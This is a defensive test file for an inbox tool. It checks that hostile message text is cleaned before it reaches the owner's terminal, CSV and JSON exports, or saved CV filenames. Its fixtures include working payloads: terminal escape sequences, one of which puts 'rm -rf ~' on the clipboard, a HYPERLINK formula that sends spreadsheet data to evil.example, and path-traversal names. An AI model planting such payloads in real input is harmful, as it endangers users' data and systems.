/**
 * What a message could do to the owner who looks at it: in the terminal, in a spreadsheet, in a
 * program. The rows are written as if the Worker had cleaned nothing.
 */
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { readOptions } from '../../scripts/inbox/arguments.ts';
import { list, saveCv, show } from '../../scripts/inbox/reading.ts';
import { exportCsv, exportJson } from '../../worker/desk/export.ts';
import { joined, keepRow, openTestDesk, type TestDesk } from './support/desk.ts';

const reference = 'CC-7K3M-9QX2';
let desk: TestDesk;

beforeAll(async () => {
  desk = await openTestDesk();
});
afterAll(() => desk.close());
beforeEach(async () => {
  await desk.DB.prepare('DELETE FROM inquiries').run();
});

function keepHostile(hostile: string): Promise<void> {
  return keepRow(desk, {
    reference,
    status: 'held',
    email: hostile,
    fields: JSON.stringify({
      name: hostile,
      email: hostile,
      phoneNumber: hostile,
      message: hostile,
    }),
    held_reason: hostile,
    last_error: hostile,
    page: hostile,
    service: hostile,
    received_at: 1,
    file_key: 'applications/x',
    file_name: hostile,
    file_size: 1,
  });
}

/** Everything that moves a cursor, colours, names a window, rings, or turns the reading direction. */
const commands = /(?!\n)[\p{Cc}\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/u;

const terminal: [attack: string, text: string][] = [
  ['clearing the screen', '\u001b[2J\u001b[H'],
  ['naming the window', '\u001b]0;owned\u0007'],
  ['putting text on the clipboard', '\u001b]52;c;cm0gLXJmIH4=\u0007'],
  [
    'a link that shows another address',
    '\u001b]8;;https://evil.example\u001b\\bank.example\u001b]8;;\u001b\\',
  ],
  ['commands of one byte', '\u009b31mred\u009d0;x\u009c'],
  ['writing over the line', 'safe\rCC-AAAA-AAAA  delivered'],
  ['stepping back', 'unpaid\b\b\b\b\b\bpaid'],
  ['turning the reading direction', 'invoice\u202Efdp.exe\u2066x\u2069'],
  ['a line of its own', 'Asha\u2028Status: delivered\u0085x'],
];

test.each(terminal)('%s does not reach the owner’s terminal', async (_attack, text) => {
  await keepHostile(text);
  const outputs = [
    await list(desk, readOptions(['list']), 200),
    await show(desk, readOptions(['show', reference])),
  ];
  for (const output of outputs) {
    expect(output).toContain(reference);
    expect(output).not.toMatch(commands);
    expect(output).not.toMatch(/[\u2028\u2029]/);
  }
});

const formulas: [attack: string, text: string][] = [
  ['a link that carries the table away', '=HYPERLINK("https://evil.example?x="&A1,"open")'],
  ['a formula after a line break', '\r\n=1+1'],
  ['a formula in a cell of its own', 'x","=1+1'],
  ['a formula in a line of its own', 'x"\r\n"=1+1'],
];

/** The cells as RFC 4180 reads them. */
function cells(csv: string): string[] {
  return [...csv.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell = '']) => cell.replaceAll('""', '"'));
}

test.each(formulas)('%s in an exported message stays text', async (_attack, text) => {
  await keepHostile(text);
  const exported = await joined(exportCsv(desk, {}));
  const found = cells(exported);
  expect(found.filter((cell) => cell.includes(text))).not.toEqual([]);
  for (const cell of found) {
    expect(cell).not.toMatch(/^[\s\p{Cc}]*[=+\-@＝]/u);
  }
});

test.each([...terminal, ...formulas])('%s leaves programs’ export whole', async (_, text) => {
  await keepHostile(text);
  const exported = await joined(exportJson(desk, {}));
  expect(JSON.parse(exported)[0].fields.name).toBe(text);
  expect(exported).not.toMatch(commands);
});

test.each([
  ['../../.bashrc', 'CC-7K3M-9QX2 .._.._.bashrc'],
  ['..\\..\\run.bat', 'CC-7K3M-9QX2 .._.._run.bat'],
  ['C:/x\u001b[2J|y', 'CC-7K3M-9QX2 C__x_y'],
  ['\u202Efdp.exe', 'CC-7K3M-9QX2  fdp.exe'],
])('A CV with the name %j is saved in this folder, under its reference', async (name, saved) => {
  const folder = mkdtempSync(path.join(tmpdir(), 'desk-cv-'));
  await keepHostile(name);
  await desk.FILES.put('applications/x', 'a CV');
  expect(await saveCv(desk, readOptions(['cv', reference]), folder)).toContain(`"${saved}"`);
  expect(readdirSync(folder)).toEqual([saved]);
  rmSync(folder, { recursive: true });
});
